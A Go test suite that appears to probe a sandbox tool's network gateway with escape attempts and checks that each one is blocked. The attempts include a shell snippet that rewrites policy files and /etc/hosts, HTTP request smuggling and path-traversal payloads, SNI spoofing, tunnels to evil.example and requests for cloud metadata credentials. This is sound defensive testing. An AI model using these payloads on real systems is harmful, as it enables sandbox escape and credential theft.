package escape

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

// networkScenes are attempts that need more than one sandbox and one batch.
var networkScenes = []func(*wires){
	notClaimed, liveChanges, questions, questionFlood, hostPorts, editedSettings, slowClients, requestRules, inspected, upstreamProxy,
}

// notClaimed records what the gateway does not see.
func notClaimed(s *wires) {
	s.r.open = append(s.r.open,
		"87: inside TLS a program may ask an allowed server for a page of another host: the gateway sees the server's name, not the requests",
		"81: of an allowed name, records other than addresses are looked up outside; and a name below an allowed domain is, when it is connected to")
}

// A running attempt is one that was started and not waited for.
type running struct {
	s   *wires
	cmd *exec.Cmd
	in  io.WriteCloser
	out *bufio.Reader
}

// start makes an attempt in a sandbox.
func (s *wires) start(sandbox string, args ...string) *running {
	s.t.Helper()
	c := s.bed.Command(append([]string{"exec", "-m", sandbox, "--", s.probe}, args...)...)
	in, err := c.StdinPipe()
	must(s.t, err)
	out, err := c.StdoutPipe()
	must(s.t, err)
	c.Stderr = os.Stderr
	must(s.t, c.Start())
	return &running{s, c, in, bufio.NewReader(out)}
}

// line waits for a line of output.
func (r *running) line() string {
	line, _ := r.out.ReadString('\n')
	return strings.TrimSpace(line)
}

// end waits for the result.
func (r *running) end() outcome {
	r.s.t.Helper()
	rest, err := io.ReadAll(r.out)
	must(r.s.t, err)
	r.in.Close()
	r.cmd.Wait()
	return result{out: string(rest)}.probed()
}

// try makes one attempt in a sandbox.
func (s *wires) try(sandbox string, args ...string) outcome {
	s.t.Helper()
	return s.coffer(s.bed.Work, append([]string{"exec", "-m", sandbox, "--", s.probe}, args...)...).probed()
}

// liveChanges: what the user changes holds at once, also for what is open already.
func liveChanges(s *wires) {
	s.make("live", nil, nil)
	before := s.try("live", "talk", "live.example:7", "wlive1")
	s.succeeds("policy", "allow", "live.example:7", "--sandbox", "live")
	after := s.try("live", "talk", "live.example:7", "wlive2")
	s.r.judge("ok.live", "(has to work) talk to somebody as soon as the user allows it", before.Wall == "NXDOMAIN", before.String(), after.Wall == "" && s.net.Log.Seen("wlive2"), after.String())

	kept := s.start("live", "hold", "live.example:7", "wlive3")
	open := kept.line()
	s.succeeds("policy", "deny", "live.example", "--sandbox", "live")
	cut := kept.end()
	again := s.try("live", "talk", "live.example:7", "wlive4")
	s.r.judge("x16.deny", "go on talking after the user has denied it", open == "holding", open, cut.Wall == "ECONNRESET" && again.Wall == "NXDOMAIN" && !s.net.Log.Seen("wlive4"), cut.String()+" "+again.String())

	s.succeeds("policy", "reset", "--sandbox", "live")
	s.succeeds("policy", "allow", "live.example:7", "--for", "1h", "--sandbox", "live")
	kept = s.start("live", "hold", "live.example:7", "wlive5")
	open = kept.line()
	s.succeeds("policy", "reset", "live.example:7", "--sandbox", "live")
	cut = kept.end()
	s.r.judge("x16.reset", "go on talking after the user has taken it back", open == "holding", open, cut.Wall == "ECONNRESET", cut.String())
	s.succeeds("rm", "--force", "live")
}

// pending returns the numbers of the questions that wait.
func (s *wires) pending(sandbox string) (ids []string) {
	s.t.Helper()
	var list []struct{ ID int }
	out := s.succeeds("policy", "pending", "--json", "--sandbox", sandbox).out
	must(s.t, json.Unmarshal([]byte(out), &list))
	for _, q := range list {
		ids = append(ids, fmt.Sprint(q.ID))
	}
	return ids
}

// asked waits for a question and returns its number.
func (s *wires) asked(sandbox string) string {
	s.t.Helper()
	var ids []string
	if !poll(s.t, "a question is asked", func() bool { ids = s.pending(sandbox); return len(ids) == 1 }) {
		s.t.FailNow()
	}
	return ids[0]
}

// questions: nothing is said before the user has answered, and then what he says holds.
func questions(s *wires) {
	s.make("ask", []string{"--net", "ask"}, nil)
	for _, q := range []struct {
		n, name string
		do      []string
		answer  []string
		wall    string
	}{
		{"x17.no", "ask for a page that the user denies", []string{"get", "http://one.example/wask1"}, []string{"deny", "--once"}, "403"},
		{"ok.ask1", "(has to work) ask for a page that the user allows", []string{"get", "http://two.example/wask2"}, []string{"allow", "--once"}, ""},
		{"ok.ask2", "(has to work) wait for somebody to speak whom the user allows", []string{"silent", "three.example:22", "wask3"}, []string{"allow", "--for", "1h"}, ""},
		{"x17.tls", "speak TLS with somebody whom the user denies", []string{"tls", "four.example:443", "four.example", "wask4"}, []string{"deny"}, "ALERT-49"},
		{"x17.raw", "talk to somebody whom the user denies", []string{"talk", "five.example:7", "wask5"}, []string{"deny"}, "ECONNRESET"},
		{"x17.addr", "talk to an address that the user denies", []string{"talk", "[2a0f::5]:7", "wask6"}, []string{"deny"}, "ECONNRESET"},
	} {
		w := q.do[len(q.do)-1][strings.LastIndex(q.do[len(q.do)-1], "wask"):]
		s.net.Log.Reset()
		waiting := s.start("ask", q.do...)
		id := s.asked("ask")
		early := s.net.Log.Seen(w)
		s.succeeds(append(append([]string{"policy", "answer", id}, q.answer...), "--sandbox", "ask")...)
		got := waiting.end()
		must(s.t, s.net.Log.Flush())
		s.r.judge(q.n, q.name, !early, "held", got.Wall == q.wall && s.net.Log.Seen(w) == (q.wall == ""), strings.TrimSpace(got.String()+" "+got.Note))
	}
	// An answer for once is used up, one for longer is not.
	again := s.start("ask", "get", "http://two.example/wask7")
	id := s.asked("ask")
	s.succeeds("policy", "answer", id, "deny", "--sandbox", "ask")
	used := again.end()
	s.r.judge("x17.once", "use an answer for once again", true, "-", used.Wall == "403", used.String())
	longer := s.try("ask", "silent", "three.example:22", "wask8")
	s.r.judge("ok.ask3", "(has to work) use an answer for longer again", true, "-", longer.Wall == "", longer.String())
	again = s.start("ask", "get", "http://metadata.example/wask9")
	s.succeeds("policy", "answer", s.asked("ask"), "allow", "--sandbox", "ask")
	meta := again.end()
	s.r.judge("x17.meta", "be allowed a name that leads to the cloud's credentials", true, "-", meta.Wall == "403" && !s.net.Log.Seen("wask9"), meta.String())
	s.succeeds("rm", "--force", "ask")
}

// questionFlood: as many questions as anybody could ever answer.
func questionFlood(s *wires) {
	const many, most = 120, 16
	s.make("flood", []string{"--net", "ask"}, nil)
	flood := s.start("flood", "crowd", fmt.Sprint(many), "flood.example")
	high := 0
	poll(s.t, "the list of questions is full", func() bool {
		high = max(high, len(s.pending("flood")))
		return high >= most
	})
	for range 5 {
		high = max(high, len(s.pending("flood")))
	}
	s.succeeds("policy", "deny", "*.flood.example", "--sandbox", "flood")
	got := flood.end()
	s.r.judge("116", fmt.Sprintf("ask the user %d questions at once", many), high > 0, fmt.Sprint(high, " are asked"), high <= most && got.Wall == fmt.Sprintf("403x%d", many), got.String()+" "+got.Note)
	s.succeeds("rm", "--force", "flood")
}

// hostPorts: the ports of the host's loopback that the user names, and no others.
func hostPorts(s *wires) {
	s.make("ports", []string{"--host-port", "7070", "--host-port", "9999:7"}, nil)
	s.pass("ports", []way{
		{"ok.port1", "talk to a port of the host that the user names", "talk host.coffer.internal:7070 {w}"},
		{"ok.port2", "talk to it by another number", "talk host.coffer.internal:9999 {w}"},
		{"ok.port3", "talk to it at localhost", "talk 127.0.0.1:7070 {w}"},
	})
	list := trials([]attempt{
		{n: "83.port", name: "talk to another port of the host", do: "talk host.coffer.internal:7 {w}", control: "talk 127.0.0.1:7 {w}", wall: "ECONNRESET ECONNREFUSED"},
		{n: "83.page2", name: "ask another port of the host for a page", do: "get http://host.coffer.internal/{w}", control: "get http://127.0.0.1/{w}", wall: "403 ECONNRESET ECONNREFUSED"},
		{n: "83.addr", name: "talk to another port of the host at localhost", do: "talk 127.0.0.1:7 {w}", control: "talk 127.0.0.1:7 {w}", wall: "ECONNREFUSED"},
		{n: "83.lan2", name: "talk to the named port by the host's private address", do: "talk 192.168.20.2:7070 {w}", wall: "ECONNRESET"},
		{n: "83.udp2", name: "send to the named port by UDP", do: "udp host.coffer.internal:7070 {w}", control: "udp 127.0.0.1:7070 {w}", wall: "ECONNREFUSED"},
	})
	s.r.settle(list, s.controls(list), s.within("ports", list, false))
	s.succeeds("rm", "--force", "ports")
}

// editedSettings: what is written inside is no policy.
func editedSettings(s *wires) {
	dir := s.fresh("settings")
	s.succeedsIn(dir, "exec", "--create", "--name", "settings", "--", "true")
	edit := `for f in ./coffer.toml ./coffer.local.toml ~/.config/coffer/config.toml /etc/coffer/policy.toml; do
		mkdir -p $(dirname $f); printf '[network]\ndefault = "allow"\n[[network.rules]]\nallow = ["*"]\n' >$f; done
		echo '20.0.0.1 evil.example' >>/etc/hosts; echo 'nameserver 20.0.0.53' >/etc/resolv.conf; true`
	for _, root := range []string{"--root=false", "--root=true"} {
		s.succeedsIn(dir, "exec", "-m", "settings", root, "--", "/bin/sh", "-c", edit)
	}
	list := trials([]attempt{
		{n: "97", name: "talk to a stranger after the settings were edited inside", do: "talk 20.0.0.1:7 {w}", wall: "ECONNRESET"},
		{n: "97.page", name: "ask a stranger by name after the settings were edited", do: "get http://evil.example/{w}", wall: "403 NXDOMAIN"},
		{n: "97.dns", name: "ask for a name after the resolver was changed", do: "lookup {w}.evil.example", wall: "NXDOMAIN"},
	})
	outside := s.controls(list)
	s.r.settle(list, outside, s.within("settings", list, false))
	s.succeedsIn(dir, "stop", "settings")
	list = trials([]attempt{
		{n: "97.later", name: "talk to a stranger when the sandbox is started again", do: "talk 20.0.0.1:7 {w}", wall: "ECONNRESET"},
		{n: "97.host", name: "ask a stranger by name when it is started again", do: "get http://evil.example/{w}", wall: "403 NXDOMAIN"},
	})
	s.r.settle(list, s.controls(list), s.within("settings", list, false))
	s.auditLog("settings")
	s.succeeds("rm", "--force", "settings")
}

func (s *wires) succeedsIn(dir string, args ...string) {
	s.t.Helper()
	if r := s.coffer(dir, args...); r.code != 0 {
		s.t.Fatalf("coffer %s: exit code %d\n%s%s", strings.Join(args, " "), r.code, r.out, r.err)
	}
}

// auditLog: it has what was attempted in the sandbox of editedSettings, and is out of
// reach.
func (s *wires) auditLog(sandbox string) {
	s.succeeds("policy", "allow", "good.example:7", "--sandbox", sandbox)
	s.try(sandbox, "get", "http://20.0.0.1/waudit")
	s.try(sandbox, "lookup", "waudit.example")
	s.try(sandbox, "talk", "good.example:7", "waudit")
	s.succeeds("stop", sandbox)
	dirs, _ := filepath.Glob(filepath.Join(s.bed.Home, ".local/share/coffer/sandboxes/*/audit"))
	if len(dirs) != 1 {
		s.t.Fatalf("%d audit logs", len(dirs))
	}
	log := filepath.Join(dirs[0], "events-000001.jsonl")
	text, err := os.ReadFile(log)
	must(s.t, err)
	for i, want := range []string{`"path":"/waudit"`, `"host":"waudit.example"`, `"host":"good.example"`} {
		s.r.judge(fmt.Sprint("ok.log", i), "(has to work) find it in the audit log: "+want, true, "-", strings.Contains(string(text), want), fmt.Sprint(len(text), " bytes"))
	}
	list := trials([]attempt{
		{n: "27.read", name: "read the audit log", do: "read " + log, wall: "ENOENT", hurt: "-", as: "both"},
		{n: "27.list", name: "list it", do: "list " + dirs[0], wall: "ENOENT", hurt: "-", as: "both"},
		{n: "27.write", name: "write to it", do: "openw " + log, wall: "ENOENT", hurt: "-", as: "both"},
		{n: "27.rules", name: "read the user's rules", do: "read " + filepath.Join(filepath.Dir(dirs[0]), "policy.json"), wall: "ENOENT", hurt: "-", as: "both"},
		{n: "27.set", name: "write the user's rules", do: "openw " + filepath.Join(filepath.Dir(dirs[0]), "policy.json"), wall: "ENOENT", hurt: "-", as: "both"},
	})
	inside := s.within(sandbox, list, false)
	maps.Copy(inside, s.within(sandbox, list, true))
	s.r.settle(list, s.controls(list), inside)
}

// inspected: TLS that is looked into, and the key by which that is done.
func inspected(s *wires) {
	config := filepath.Join(s.bed.Home, ".config/coffer/config.toml")
	s.here.put(config, "[[network.rules]]\nallow = [\"good.example\"]\nmethods = [\"GET\", \"POST\"]\npaths = [\"/ok/**\"]\n", 0o644)
	s.here.own(filepath.Join(s.bed.Home, ".config"))
	s.make("inspected", nil, nil)
	must(s.t, os.Remove(config))
	keys, _ := filepath.Glob(filepath.Join(s.bed.Home, ".local/share/coffer/sandboxes/*/authority.pem"))
	if len(keys) != 1 {
		s.t.Fatalf("%d authorities", len(keys))
	}
	say := func(lines string) string { return "inner good.example:443 good.example " + lines }
	const host = "%20HTTP/1.1%0D%0AHost:%20good.example%0D%0A"
	list := trials([]attempt{
		{n: "118", name: "read the key that signs for servers", do: "read " + keys[0], wall: "ENOENT", hurt: "-", as: "both"},
		{n: "118.list", name: "list where it is", do: "list " + filepath.Dir(keys[0]), wall: "ENOENT", hurt: "-", as: "both"},
		{n: "119", name: "ask in TLS for what no rule allows", do: say("GET%20/{w}" + host + "%0D%0A"), wall: "403"},
		{n: "119.method", name: "do there what no rule allows", do: say("PUT%20/ok/{w}" + host + "%0D%0A"), wall: "403"},
		{n: "119.dots", name: "go there by dots", do: say("GET%20/ok/../{w}" + host + "%0D%0A"), wall: "400"},
		{n: "119.slash", name: "go there by an encoded slash", do: say("GET%20/ok/..%252f{w}" + host + "%0D%0A"), wall: "400"},
		{n: "119.host", name: "ask in TLS for another host's page", do: say("GET%20/ok/{w}%20HTTP/1.1%0D%0AHost:%20evil.example%0D%0A%0D%0A"), wall: "421"},
		{n: "119.url", name: "name it in the request line", do: say("GET%20https://evil.example/ok/{w}" + host + "%0D%0A"), wall: "400"},
		{n: "119.sni", name: "name it in the ClientHello", do: "inner good.example:443 evil.example GET%20/ok/{w}" + host + "%0D%0A", wall: "ALERT-112"},
		{n: "119.two", name: "hide a request behind two lengths", do: say("POST%20/ok/a" + host + "Content-Length:%205%0D%0ATransfer-Encoding:%20chunked%0D%0A%0D%0A0%0D%0A%0D%0AGET%20/{w}" + host + "%0D%0A"), wall: "400"},
		{n: "119.body", name: "send a body where servers read none", do: say("GET%20/ok/{w}" + host + "Content-Length:%203%0D%0A%0D%0Aabc"), wall: "400"},
	})
	inside := s.within("inspected", list, false)
	maps.Copy(inside, s.within("inspected", list, true))
	s.r.settle(list, s.controls(list), inside)
	s.succeeds("rm", "--force", "inspected")
}

// slowClients: connections that begin and do not go on, and answers that nobody reads.
func slowClients(s *wires) {
	s.make("slow", nil, []string{"allow good.example:80"})
	slow := s.start("slow", "slow", "200", "good.example:80")
	open := slow.line()
	var list []struct {
		Name string
		PID  int
	}
	must(s.t, json.Unmarshal([]byte(s.succeeds("ls", "--json").out), &list))
	var kb int64
	for _, sb := range list {
		if sb.Name == "slow" {
			fmt.Sscan(statusOf(sb.PID)["VmHWM"], &kb)
		}
	}
	other := s.try("slow", "get", "http://good.example/wslow")
	slow.in.Close()
	slow.end()
	s.r.judge("102.net", "hold 200 connections that do not go on", open == "holding", open, kb > 0 && kb < 100<<10 && other.Wall == "", fmt.Sprintf("%d MB used, others: %s", kb>>10, other))
	poll(s.t, "the connections are gone", func() bool { return s.net.Log.Flush() == nil })
	s.succeeds("rm", "--force", "slow")
}

// requestRules: rules that look at requests, and bound what may be sent.
func requestRules(s *wires) {
	s.make("requests", nil, nil)
	s.succeeds("stop", "requests")
	// There is no command for such rules: they are for config files.
	dirs, _ := filepath.Glob(filepath.Join(s.bed.Home, ".local/share/coffer/sandboxes/*/sandbox.json"))
	if len(dirs) != 1 {
		s.t.Fatalf("%d sandboxes", len(dirs))
	}
	path := filepath.Join(filepath.Dir(dirs[0]), "policy.json")
	s.here.put(path, `{"version":1,"rules":[
		{"allow":["paths.example:80"],"protocol":"http","methods":["GET"],"paths":["/open/**"]},
		{"allow":["drain.example:80"],"max_upload":"1MB"}]}`, 0o600)
	s.here.own(path)
	list := []attempt{
		{n: "x18.path", name: "ask for another path than the allowed one", do: "get http://paths.example/{w}", wall: "403"},
		{n: "x18.post", name: "post to the allowed path", do: "upload http://paths.example/open/{w} 5", wall: "403"},
		{n: "x18.tls", name: "speak TLS where only requests are allowed", do: "tls paths.example:80 paths.example {w}", wall: "ALERT-49", by: "nobody", why: "nobody speaks TLS there"},
		{n: "x18.raw", name: "say something else where only requests are allowed", do: "talk paths.example:80 {w}", wall: "ECONNRESET", by: "nobody", why: "that server speaks only HTTP"},
		{n: "x18.drain", name: "send more than the limit", do: "upload http://drain.example/first-{w} 3000000", wall: "403 ECONNRESET EPIPE EOF", hurt: "-"},
		{n: "x18.more", name: "send a little after the limit", do: "upload http://drain.example/{w} 5", wall: "403"},
	}
	for i, spelling := range []string{"/open/../{w}", "/open/%2e%2e/{w}", "/open/..%2f{w}", "/open/x/../../{w}", "/open/..;/{w}", "/open/%2E./{w}", "/open/%5c..%5c{w}", "//{w}", "/%6fpen%00/{w}"} {
		list = append(list, attempt{n: "x18." + string(rune('a'+i)), name: "spell the path so: " + spelling, do: "raw paths.example:80 GET%20" + strings.ReplaceAll(spelling, "%", "%25") + "%20HTTP/1.1%0D%0AHost:%20paths.example%0D%0A%0D%0A", wall: "403 400"})
	}
	all := trials(list)
	s.r.settle(all, s.controls(all), s.within("requests", all, false))
	s.pass("requests", []way{
		{"ok.path1", "ask for an allowed path", "get http://paths.example/open/{w}"},
		{"ok.path2", "ask for one that is spelt oddly", "raw paths.example:80 GET%20/open/x/../{w}%20HTTP/1.1%0D%0AHost:%20paths.example%0D%0A%0D%0A"},
	})
	s.succeeds("stop", "requests")
	again := s.try("requests", "upload", "http://drain.example/wdrain2", "5")
	s.r.judge("x18.again", "get a new allowance by a new start", true, "-", again.Wall == "403" && !s.net.Log.Seen("wdrain2"), again.String())
	s.succeeds("rm", "--force", "requests")
}

// upstreamProxy: the host reaches the world by a proxy. The sandbox does not reach the
// proxy, and the walls are the same.
func upstreamProxy(s *wires) {
	const proxy = "10.99.0.1:3128"
	run := func(args ...string) outcome {
		c := s.bed.Command(append([]string{"exec", "-m", "behind", "--", s.probe}, args...)...)
		return s.run(c).probed()
	}
	c := s.bed.Command("exec", "--create", "--name", "behind", "--", "true")
	c.Env = append(c.Env, "HTTP_PROXY=http://"+proxy, "HTTPS_PROXY=http://"+proxy, "ALL_PROXY=http://"+proxy)
	if r := s.run(c); r.code != 0 {
		s.t.Fatal(r.err)
	}
	for _, r := range []string{"good.example", "private.example", "metadata.example"} {
		s.succeeds("policy", "allow", r, "--sandbox", "behind")
	}
	s.net.Log.Reset()
	got := run("get", "http://good.example/wproxy1")
	raw := run("silent", "good.example:22", "wproxy2")
	must(s.t, s.net.Log.Flush())
	s.r.judge("ok.proxy", "(has to work) reach an allowed host by the host's proxy", true, "-",
		got.Wall == "" && raw.Wall == "" && s.net.Log.Seen(`^proxy 10\.99\.0\.1:3128 CONNECT good\.example:80 `) && s.net.Log.Seen(`^proxy 10\.99\.0\.1:3128 CONNECT good\.example:22 `), got.String()+" "+raw.String())
	list := trials([]attempt{
		{n: "84.proxy", name: "have the host's proxy lead to the cloud's credentials", do: "get http://metadata.example/{w}", wall: "403"},
		{n: "84.proxy2", name: "have it lead to a private address", do: "get http://private.example/{w}", wall: "403"},
		{n: "85.proxy", name: "ask the host's proxy for a tunnel", do: "tunnel " + proxy + " evil.example:7 {w}", wall: "403"},
		{n: "92.proxy", name: "have it lead to a stranger", do: "get http://20.0.0.1/{w}", wall: "403"},
		{n: "81.proxy", name: "ask for a stranger's name", do: "lookup {w}.evil.example", wall: "NXDOMAIN"},
	})
	s.r.settle(list, s.controls(list), s.within("behind", list, false))
	s.succeeds("rm", "--force", "behind")
}
